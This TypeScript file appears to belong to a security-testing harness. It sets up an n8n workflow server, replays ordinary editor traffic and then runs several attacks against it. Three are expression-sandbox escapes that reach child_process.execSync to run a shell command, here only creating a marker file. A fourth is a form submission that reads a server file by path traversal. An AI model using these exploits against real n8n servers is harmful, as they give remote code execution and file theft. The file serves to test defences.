// n8n: workflows of nodes, whose editors write expressions and JavaScript that the server runs, by design.
import { join } from 'node:path';
import type { Application, ApplicationAttack } from '../application.ts';
import { difficult, type User } from '../user.ts';

type Node = Readonly<Record<string, unknown>>;

const hook = (path: string): Node => ({
  name: 'Hook',
  type: 'n8n-nodes-base.webhook',
  typeVersion: 2,
  parameters: { path, httpMethod: 'POST', responseMode: 'lastNode', options: {} },
  webhookId: path,
});

const days: readonly (readonly [path: string, node: Node])[] = [
  [
    'expressions',
    {
      name: 'Set',
      type: 'n8n-nodes-base.set',
      typeVersion: 3.4,
      parameters: {
        assignments: {
          assignments: [
            {
              id: 'a',
              name: 'upper',
              type: 'string',
              value: '={{ $json.body.text.toUpperCase().split(" ").slice(0, 3).join("-") }}',
            },
            {
              id: 'b',
              name: 'count',
              type: 'number',
              value: '={{ Object.keys($json.body).length + [1, 2, 3].map((x) => x * 2).reduce((a, b) => a + b, 0) }}',
            },
            {
              id: 'c',
              name: 'plain',
              type: 'string',
              value: "=Hello {{ $json.body.name || 'nobody' }}, it's {{ new Date(0).getFullYear() }}",
            },
          ],
        },
        options: {},
      },
    },
  ],
  [
    'template',
    {
      name: 'Page',
      type: 'n8n-nodes-base.html',
      typeVersion: 1.2,
      parameters: { html: '<h1>{{ $json.body.name }}</h1><p>{{ $json.body.text }}</p><script>1 + 1</script>' },
    },
  ],
  [
    'markdown',
    {
      name: 'Markdown',
      type: 'n8n-nodes-base.markdown',
      typeVersion: 1,
      parameters: { mode: 'markdownToHtml', markdown: '={{ $json.body.text }}', options: {} },
    },
  ],
];

/** A workflow that is started by hand: a text, and the node behind it. */
function tried(name: string, node: Node): object {
  const at = (id: string, x: number): object => ({ id, position: [x, 0] });
  return {
    name,
    nodes: [
      { ...at('t', 0), name: 'Go', type: 'n8n-nodes-base.manualTrigger', typeVersion: 1, parameters: {} },
      {
        ...at('d', 200),
        name: 'Data',
        type: 'n8n-nodes-base.set',
        typeVersion: 3.4,
        parameters: {
          mode: 'raw',
          jsonOutput: JSON.stringify({ body: { name: 'Ann', text: 'upper case, please' } }),
          options: {},
        },
      },
      { ...at('n', 400), ...node },
    ],
    connections: {
      Go: { main: [[{ node: 'Data', type: 'main', index: 0 }]] },
      Data: { main: [[{ node: node['name'], type: 'main', index: 0 }]] },
    },
    settings,
  };
}

const settings = { executionOrder: 'v1' };

/** A workflow of a webhook and one node behind it, switched on. */
async function workflow(user: User, name: string, nodes: readonly Node[]): Promise<string> {
  const { json } = await user.post(
    '/rest/workflows',
    {
      name,
      nodes: nodes.map((node, index) => ({
        id: `00000000-0000-4000-8000-00000000000${index}`,
        position: [index * 200, 0],
        ...node,
      })),
      connections: Object.fromEntries(
        nodes
          .slice(0, -1)
          .map(({ name: from }, index) => [
            from,
            { main: [[{ node: nodes[index + 1]!['name'], type: 'main', index: 0 }]] },
          ]),
      ),
      active: false,
      settings,
    },
    { statusOnly: true },
  );
  const { id, versionId } = (json as { data: { id: string; versionId: string } }).data;
  user.hide(id);
  await user.patch(`/rest/workflows/${id}`, { active: true, versionId }, { statusOnly: true });
  return id;
}

/** A workflow whose expression leaves for the process, stored, and run by a webhook later. */
function later(id: string, title: string, expression: (code: string) => string): ApplicationAttack {
  const path = id.toLowerCase();
  return {
    id,
    guard: 'code-injection',
    title,
    async attempt(user, { made, appears }) {
      const file = made();
      const code = `process.mainModule.require("child_process").execSync("touch ${file}").toString()`;
      const value = `={{ ${expression(code)} }}`;
      const set = {
        name: 'Set',
        type: 'n8n-nodes-base.set',
        typeVersion: 3.4,
        parameters: { assignments: { assignments: [{ id: 'a', name: 'x', type: 'string', value }] }, options: {} },
      };
      await workflow(user, path, [hook(path), set]);
      await new Promise((resolve) => setTimeout(resolve, 500));
      await user.post(`/webhook/${path}`, { text: 'now' });
      return appears(file);
    },
  };
}

export default {
  name: 'n8n',
  packages: { n8n: '1.119.2' },
  // It asks for a package that is not in the registry.
  overrides: { xlsx: '0.18.5' },
  needs: 'postgresql',
  start({ packages, folder, port, serverPort }) {
    return {
      file: join(packages, 'n8n/bin/n8n'),
      arguments: ['start'],
      environment: {
        N8N_PORT: String(port),
        N8N_LISTEN_ADDRESS: '127.0.0.1',
        N8N_USER_FOLDER: folder,
        N8N_ENCRYPTION_KEY: 'ordinary',
        N8N_SECURE_COOKIE: 'false',
        N8N_DIAGNOSTICS_ENABLED: 'false',
        N8N_VERSION_NOTIFICATIONS_ENABLED: 'false',
        N8N_PERSONALIZATION_ENABLED: 'false',
        N8N_TEMPLATES_ENABLED: 'false',
        N8N_RUNNERS_ENABLED: 'false',
        N8N_GIT_NODE_DISABLE_BARE_REPOS: 'true',
        N8N_BLOCK_ENV_ACCESS_IN_NODE: 'true',
        DB_TYPE: 'postgresdb',
        DB_POSTGRESDB_HOST: '127.0.0.1',
        DB_POSTGRESDB_PORT: String(serverPort),
        DB_POSTGRESDB_USER: 'test',
        DB_POSTGRESDB_DATABASE: 'postgres',
      },
      ready: '/rest/settings',
    };
  },
  async use(user) {
    user.headers['browser-id'] = 'ann';
    await user.until('/rest/settings', ({ json }) => (json as { data?: object })?.data !== undefined);
    const account = { email: 'ann@example.com', firstName: 'Ann', lastName: "O'Neil", password: "It's-Secret1" };
    await user.post('/rest/owner/setup', account, { statusOnly: true });
    await user.post(
      '/rest/login',
      { emailOrLdapLoginId: account.email, password: account.password },
      { statusOnly: true },
    );
    for (const [path, node] of days) await workflow(user, `Ann's ${path}`, [hook(path), node]);
    await user.until(
      '/rest/active-workflows',
      ({ json }) => (json as { data?: unknown[] })?.data?.length === days.length,
    );
    for (const text of difficult)
      for (const [path] of days) await user.post(`/webhook/${path}`, { name: text.slice(0, 30), text });
    for (const [index, text] of difficult.entries())
      await user.post(
        '/rest/workflows',
        {
          name: `${text.slice(0, 100)} ${index}`,
          nodes: [
            {
              id: 'n',
              name: 'Note',
              type: 'n8n-nodes-base.stickyNote',
              typeVersion: 1,
              position: [0, 0],
              parameters: { content: text },
            },
          ],
          connections: {},
          active: false,
          settings,
        },
        { statusOnly: true },
      );
    // An editor tries out what is on the screen.
    for (const [path, node] of days) {
      const { json } = await user.post(
        '/rest/workflows',
        { ...tried(`tries ${path}`, node), active: false },
        { statusOnly: true },
      );
      const workflowData = (json as { data: { id: string } }).data;
      user.hide(workflowData.id);
      const started = await user.post(
        `/rest/workflows/${workflowData.id}/run`,
        { workflowData, startNodes: [], triggerToStartFrom: { name: 'Go' } },
        { statusOnly: true },
      );
      const execution = `/rest/executions/${(started.json as { data?: { executionId: string } }).data?.executionId}`;
      await user.until(execution, (said) => /"status":"(?:success|error)"/.test(said.text));
      const { text } = await user.get(execution, { statusOnly: true });
      user.note('ran', `${/"status":"(\w+)"/.exec(text)?.[1]} ${/UPPER[^"]{0,40}/.exec(text)?.[0]}`);
    }
    await user.get('/rest/workflows', { statusOnly: true });
    await user.get(`/rest/workflows?filter=${encodeURIComponent(JSON.stringify({ name: "Ann's" }))}`, {
      statusOnly: true,
    });
    await user.post(
      '/rest/credentials',
      { name: 'local API', type: 'httpHeaderAuth', data: { name: 'X-Key', value: "a'b--;" } },
      { statusOnly: true },
    );
    await user.post('/rest/variables', { key: 'base', value: 'http://localhost:3000' }, { statusOnly: true });
    await user.get('/rest/executions?filter=%7B%7D&limit=20', { statusOnly: true });
    await user.get('/types/nodes.json', { statusOnly: true });
    await user.get('/', { statusOnly: true });
  },
  attacks: [
    {
      id: 'CVE-2025-68613',
      guard: 'code-injection',
      title: 'tries out a workflow whose expression leaves for the process',
      async attempt(user, { made, appears }) {
        const file = made();
        const trigger = {
          id: 't',
          name: 'Go',
          type: 'n8n-nodes-base.manualTrigger',
          typeVersion: 1,
          position: [0, 0],
          parameters: {},
        };
        const value = `={{ (function () { return this.process.mainModule.require("child_process").execSync("touch ${file}").toString() })() }}`;
        const set = {
          id: 's',
          name: 'Set',
          type: 'n8n-nodes-base.set',
          typeVersion: 3.4,
          position: [200, 0],
          parameters: { assignments: { assignments: [{ id: 'a', name: 'x', type: 'string', value }] }, options: {} },
        };
        const made1 = {
          name: 'x',
          nodes: [trigger, set],
          connections: { Go: { main: [[{ node: 'Set', type: 'main', index: 0 }]] } },
          active: false,
          settings,
        };
        const { json } = await user.post('/rest/workflows', made1);
        const workflowData = { ...made1, ...(json as { data: object } | undefined)?.data };
        await user.post(`/rest/workflows/${(workflowData as { id?: string }).id}/run`, {
          workflowData,
          startNodes: [],
          triggerToStartFrom: { name: 'Go' },
        });
        return appears(file);
      },
    },
    later('CVE-2025-68613', 'the same, run by a webhook later', (code) => `(function () { return this.${code} })()`),
    later(
      'CVE-2026-25049',
      'as above, by a constructor taken out of a function with braces',
      (code) => `(() => { const { constructor } = () => {}; return constructor('return ${code}')() })()`,
    ),
    later(
      'CVE-2026-1470',
      'as above, by a constructor that a with statement gives its name',
      (code) =>
        `(function () { var constructor = 1; with (function () {}) { return constructor('return ${code}')() } })()`,
    ),
    {
      id: 'CVE-2026-21858',
      guard: 'path-traversal',
      title: 'submits a form as JSON whose files name one of the server',
      async attempt(user, { outside, secret }) {
        const form = {
          name: 'Form',
          type: 'n8n-nodes-base.formTrigger',
          typeVersion: 2.2,
          webhookId: 'form',
          parameters: {
            path: 'form',
            formTitle: 'x',
            formFields: { values: [{ fieldLabel: 'file', fieldType: 'file' }] },
            responseMode: 'lastNode',
            options: { path: 'form' },
          },
        };
        const text = {
          name: 'Text',
          type: 'n8n-nodes-base.extractFromFile',
          typeVersion: 1,
          parameters: { operation: 'text', binaryPropertyName: 'file', options: {} },
        };
        const id = await workflow(user, 'form', [form, text]);
        await new Promise((resolve) => setTimeout(resolve, 500));
        const file = {
          filepath: join(outside, 'secret.txt'),
          originalFilename: 'a.txt',
          mimetype: 'text/plain',
          size: 10,
        };
        const answer = await user.post('/form/form', { data: {}, files: { 'field-0': file } });
        await new Promise((resolve) => setTimeout(resolve, 1_000));
        const { json } = await user.get(
          `/rest/executions?filter=${encodeURIComponent(JSON.stringify({ workflowId: id }))}`,
        );
        const last = (json as { data?: { results?: { id: string }[] } })?.data?.results?.[0]?.id;
        const told = await user.get(`/rest/executions/${last}`);
        return [answer, told].some(
          (said) =>
            said.text.includes(secret) || said.text.includes(Buffer.from(secret).toString('base64').slice(0, 20)),
        );
      },
    },
  ],
} satisfies Application;
